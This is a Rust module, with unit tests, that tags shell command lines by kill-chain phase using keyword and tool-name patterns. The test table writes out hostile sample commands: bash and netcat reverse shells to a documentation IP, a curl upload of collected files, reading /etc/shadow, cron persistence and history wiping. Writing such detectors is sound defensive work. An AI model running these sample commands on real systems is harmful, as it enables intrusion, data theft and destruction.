//! Which phase of the kill chain a command line belongs to, read from the words alone.

use model::Phase;

/// The phase of one command line: of its most telling part. `None`: it could be anything.
pub fn of_line(line: &str) -> Option<Phase> {
    let line = line.get(..line.len().min(4_096)).unwrap_or(line);
    parts(line).filter_map(of_part).max_by_key(|phase| telling(*phase))
}

/// How much a phase says: what everybody does first says least.
fn telling(phase: Phase) -> u8 {
    match phase {
        Phase::Discovery => 1,
        Phase::Execution => 2,
        Phase::PrivilegeEscalation => 3,
        Phase::Collection => 4,
        Phase::CredentialAccess | Phase::DefenseEvasion => 5,
        Phase::LateralMovement | Phase::Exfiltration => 6,
        Phase::Persistence => 7,
        Phase::Impact => 8,
        Phase::CommandAndControl => 9,
        _ => 0,
    }
}

/// Simple commands of a line: split at `;`, `|`, `&` and newlines that stand alone.
fn parts(line: &str) -> impl Iterator<Item = &str> {
    line.split([';', '|', '\n', '(', ')']).flat_map(|p| p.split("&&")).map(str::trim).filter(|p| !p.is_empty())
}

fn of_part(part: &str) -> Option<Phase> {
    let has = |needles: &[&str]| needles.iter().any(|n| part.contains(n));
    if has(&["/dev/tcp/", "/dev/udp/", "bash -i", "sh -i", "meterpreter", "beacon", "socat exec", "mkfifo"]) || reverse_shell(part) {
        return Some(Phase::CommandAndControl);
    }
    if has(&["authorized_keys", "/etc/cron", "/etc/rc.local", ".bashrc", ".profile", "/etc/systemd/system", "/etc/init.d", "ld.so.preload"])
        && has(&[">", "tee", "cp ", "mv ", "echo", "install", "sed -i", "chattr"])
    {
        return Some(Phase::Persistence);
    }
    if has(&[
        "/etc/shadow",
        "id_rsa",
        "id_ed25519",
        "known_hosts",
        ".aws/credentials",
        ".pgpass",
        ".netrc",
        "mimikatz",
        "hashdump",
        "lsass",
        "/etc/gshadow",
    ]) {
        return Some(Phase::CredentialAccess);
    }
    if has(&["HISTFILE", "/var/log/", ".bash_history", "history -c", "wtmp", "setenforce 0", "iptables -F", "ufw disable"])
        && has(&["unset", "rm", ">", "history", "shred", "truncate", "setenforce", "iptables", "ufw", "HISTFILE=", "export"])
    {
        return Some(Phase::DefenseEvasion);
    }
    if has(&["-perm -4000", "-perm -u=s", "sudo -l", "pkexec", "getcap -r", "dirtycow", "pwnkit", "setuid"]) {
        return Some(Phase::PrivilegeEscalation);
    }
    let mut words =
        part.split_whitespace().skip_while(|w| matches!(*w, "sudo" | "nohup" | "env" | "command" | "exec" | "time" | "then" | "do" | "if"));
    let first = words.next()?;
    let name = first.rsplit('/').next().unwrap_or(first);
    Some(match name {
        "whoami" | "id" | "uname" | "hostname" | "ifconfig" | "ip" | "arp" | "route" | "netstat" | "ss" | "ps" | "w" | "who" | "last"
        | "lscpu" | "lsblk" | "df" | "free" | "uptime" | "env" | "printenv" | "nproc" | "dmidecode" | "lsmod" | "systeminfo" | "ls"
        | "pwd" | "cat" | "find" | "locate" | "nmap" | "masscan" | "zmap" | "arp-scan" | "nbtscan" | "dig" | "nslookup" | "getent"
        | "lspci" | "mount" | "top" | "which" | "groups" | "SHOW" | "show" | "SELECT" | "select" | "INFO" | "info" | "KEYS" | "CONFIG"
        | "net" | "ping" | "traceroute" => Phase::Discovery,
        "ssh" | "rsh" | "rlogin" | "telnet" | "psexec" | "psexec.py" | "wmiexec.py" | "smbexec.py" | "evil-winrm" | "winrs" | "sshpass"
        | "xfreerdp" | "crackmapexec" | "smbclient" | "pssh" => Phase::LateralMovement,
        "scp" | "rsync" | "sftp" => Phase::LateralMovement,
        "tar" | "zip" | "7z" | "rar" | "gzip" | "mysqldump" | "pg_dump" | "mongodump" | "screencapture" | "arecord" => Phase::Collection,
        "curl" | "wget" if uploads(part) => Phase::Exfiltration,
        "ftp" | "ftpput" | "rclone" | "mega-put" | "aws" | "gsutil" => Phase::Exfiltration,
        "nc" | "ncat" | "netcat" if part.contains('<') => Phase::Exfiltration,
        "crontab" | "useradd" | "adduser" | "usermod" | "chpasswd" | "passwd" | "systemctl" | "update-rc.d" | "chkconfig" | "at" => {
            Phase::Persistence
        }
        "history" | "shred" | "auditctl" | "chattr" => Phase::DefenseEvasion,
        "rm" if part.contains("-rf") || part.contains("-fr") => Phase::Impact,
        "mkfs" | "dd" | "wipe" | "FLUSHALL" | "DROP" | "drop" | "openssl" if name != "openssl" || part.contains("enc") => Phase::Impact,
        "shutdown" | "reboot" | "halt" | "poweroff" | "kill" | "killall" | "pkill" => Phase::Impact,
        "hydra" | "john" | "hashcat" | "medusa" | "secretsdump.py" | "responder" => Phase::CredentialAccess,
        "su" => Phase::PrivilegeEscalation,
        "chisel" | "ligolo" | "frpc" | "proxychains" | "ngrok" => Phase::Pivoting,
        "chmod" | "sh" | "bash" | "python" | "python3" | "perl" | "php" | "ruby" | "node" | "busybox" | "powershell" | "gcc" | "make"
        | "java" => Phase::Execution,
        _ if first.starts_with("./") || first.starts_with("/tmp/") || first.starts_with("/dev/shm/") || first.starts_with("/var/tmp/") => {
            Phase::Execution
        }
        _ => return None,
    })
}

fn uploads(part: &str) -> bool {
    part.split_whitespace().any(|w| {
        matches!(w, "-T" | "--upload-file" | "-F" | "--form" | "-d" | "--data" | "--data-binary" | "--post-file")
            || w.starts_with("--post-file=")
    })
}

fn reverse_shell(part: &str) -> bool {
    let program = part.split_whitespace().next().map(|w| w.rsplit('/').next().unwrap_or(w));
    matches!(program, Some("nc" | "ncat" | "netcat")) && part.split_whitespace().any(|w| w == "-e" || w == "-c")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_tell_their_phase() {
        for (line, phase) in [
            ("whoami", Some(Phase::Discovery)),
            ("cat /etc/shadow", Some(Phase::CredentialAccess)),
            ("(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -", Some(Phase::Persistence)),
            ("echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys", Some(Phase::Persistence)),
            ("bash -i >& /dev/tcp/203.0.113.1/443 0>&1", Some(Phase::CommandAndControl)),
            ("nc -e /bin/sh 203.0.113.1 4444", Some(Phase::CommandAndControl)),
            ("ssh root@10.0.0.5", Some(Phase::LateralMovement)),
            ("tar czf /tmp/out.tgz /home /etc", Some(Phase::Collection)),
            ("curl -T /tmp/out.tgz \"$DROP\"", Some(Phase::Exfiltration)),
            ("./payload", Some(Phase::Execution)),
            ("find / -perm -4000 -type f", Some(Phase::PrivilegeEscalation)),
            ("history -c", Some(Phase::DefenseEvasion)),
            ("rm -rf /srv/data", Some(Phase::Impact)),
            ("frobnicate", None),
        ] {
            assert_eq!(of_line(line), phase, "{line}");
        }
    }
}
